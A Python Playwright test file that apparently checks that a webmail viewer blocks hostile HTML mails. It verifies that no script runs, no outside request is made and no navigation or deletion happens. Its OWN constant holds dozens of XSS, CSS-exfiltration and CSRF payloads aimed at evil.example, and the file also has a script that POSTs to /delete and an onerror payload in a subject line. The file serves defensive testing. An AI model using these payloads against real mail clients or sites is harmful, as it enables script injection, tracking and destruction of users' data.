"""Mails full of attacks, in a real browser: nothing runs, nothing is asked of others, and nobody is led away."""

from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from ...kit.browser import Outside
from ...kit.support import wait_until
from .test_tour import visit
from .world import MAILS, html_mail, mail, world

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog

OWN = """<!doctype html><html manifest="https://evil.example/m"><head> <meta http-equiv="refresh"
content="0;url=https://evil.example/"><meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="prefetch" href="https://evil.example/1"><link rel="preconnect" href="https://evil.example"><link
rel="dns-prefetch" href="//evil.example"><link rel="modulepreload" href="https://evil.example/2"><link
rel="icon" href="https://evil.example/3"> <script src="https://evil.example/4"></script><script
type="module">import "https://evil.example/5"</script> <style>@import "https://evil.example/6";
@font-face{font-family:x;src:url(https://evil.example/7)} body{font-family:x;
background:url(https://evil.example/8);cursor:url(https://evil.example/9),auto}
li{list-style-image:url(https://evil.example/10)} input[value^="a"]{background:url(https://evil.example/11)}
:root{--x:url(https://evil.example/12)} p{content:var(--x)}</style></head> <body
onload="top.location='https://evil.example/'" onpageshow="alert(1)"><p>text</p> <img
src="https://evil.example/13" srcset="https://evil.example/14 2x" onerror="alert(1)" onload="alert(1)"><input
value="a" autofocus onfocus="alert(1)"><picture><source srcset="https://evil.example/15"></picture><audio
src="https://evil.example/16" autoplay></audio> <video src="https://evil.example/17"
poster="https://evil.example/18" autoplay></video><iframe src="https://evil.example/19"></iframe> <iframe
srcdoc="<script>top.location='https://evil.example/'</script>"></iframe><object
data="https://evil.example/20"></object> <embed src="https://evil.example/21"><form id=f
action="https://evil.example/22"><button autofocus>x</button></form> <svg><image
href="https://evil.example/23"/><use href="https://evil.example/24#x"/><script>alert(1)</script><animate
onbegin=alert(1) attributeName=x dur=1s></svg><svg><foreignObject><iframe
src="https://evil.example/25"></iframe></foreignObject></svg> <a ping="https://evil.example/26"
href="javascript:alert(1)" id=a>x</a><details open ontoggle=alert(1)><summary>x</summary></details> <table
background="https://evil.example/27"><tr><td background="https://evil.example/28">x</td></tr></table> <marquee
onstart=alert(1)>x</marquee><isindex action="javascript:alert(1)"><iframe srcdoc="&lt;iframe src=https://evil.example/29>&lt;/iframe>"></iframe>
<math href="javascript:alert(1)">x</math>
<img src="/delete"><img src="/api/v1/messages"><iframe src="/"></iframe><a href="/" target="_top"
autofocus>x</a>
<script>parent.postMessage('owned','*');document.cookie='owned=1';localStorage.x=1;fetch('/delete',{method:'POST',body:'all=1'})</script>
<form action="/delete" method="post"><input name="all"
value="1"><script>document.forms[1].submit()</script></form></body></html>"""

ATTACKS = {
    "27": (MAILS / "27-html-that-attacks.eml").read_bytes(),
    "29": (MAILS / "29-svg-and-html-attachments.eml").read_bytes(),
    "own": html_mail(OWN, "<script>alert(1)</script>"),
    "subject": mail("<img src=//evil.example/s onerror=alert(1)>", "<img src=//evil.example/t onerror=alert(1)>"),
}


@pytest.fixture
def outside() -> Iterator[Outside]:
    """Where a browser gets with what is not on this machine."""
    made = Outside()
    yield made
    made.close()


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_nothing_runs_and_nothing_is_asked_of_others(browser: "Browser", outside: Outside, name: str) -> None:
    with world() as here, visit(browser, here, "/", proxy=outside.settings) as page:
        sent: list[str] = []
        dialogs: list[str] = []
        page.context.on("request", lambda request: sent.append(f"{request.method} {request.url}"))

        def asked(dialog: "Dialog") -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", asked)
        page.add_init_script("addEventListener('message', event => { window.owned = event.data; })")
        id = here.add(ATTACKS[name], "ana")
        for path in (
            "/",
            f"/view/{id}",
            f"/view/{id}?sent=1",
            f"/view/{id}/html",
            f"/view/{id}/html?sent=1",
            f"/view/{id}.html",
        ):
            page.goto(here.address + path)
            page.wait_for_timeout(400)
            assert page.url == here.address + path and page.context.pages == [page], "nobody is led away"
            assert page.evaluate("window.owned") is None and not dialogs
            assert "owned" not in (page.title() + str(page.context.cookies()))
        for path in ("text", "headers", "source", "parts", "envelope", "notes"):
            page.goto(f"{here.address}/view/{id}?tab={path}")
        assert sent and not outside.asked
        assert not [line for line in sent if line.startswith("POST")] and not here.inbox.deleted


def test_without_our_headers_much_of_it_would_happen(browser: "Browser", outside: Outside) -> None:
    """So the test before would notice it."""
    context = browser.new_context(proxy=outside.settings)
    page = context.new_page()
    page.set_content(OWN, wait_until="commit")
    wait_until(lambda: len(outside.asked) > 3)
    context.close()


def test_attachments_are_saved_and_not_shown(browser: "Browser") -> None:
    with world() as here:
        id = here.add(ATTACKS["29"])
        with visit(browser, here, f"/view/{id}") as page:
            for name in ("page.html", "x.html"):
                with page.expect_download() as download:
                    page.get_by_role("link", name=name).click()
                assert download.value.suggested_filename == name
            assert page.url.endswith(id)


def test_only_who_asks_for_it_loads_from_elsewhere(browser: "Browser", outside: Outside) -> None:
    with world() as here:
        id = here.add(html_mail('<img src="http://evil.example/pixel.gif">'))
        with visit(browser, here, f"/view/{id}", proxy=outside.settings) as page:
            page.wait_for_timeout(400)
            assert not outside.asked
            page.get_by_role("link", name="Load it").click()
            page.get_by_role("link", name="Do not load it").wait_for()
            wait_until(lambda: "GET http://evil.example/pixel.gif HTTP/1.1" in outside.asked)
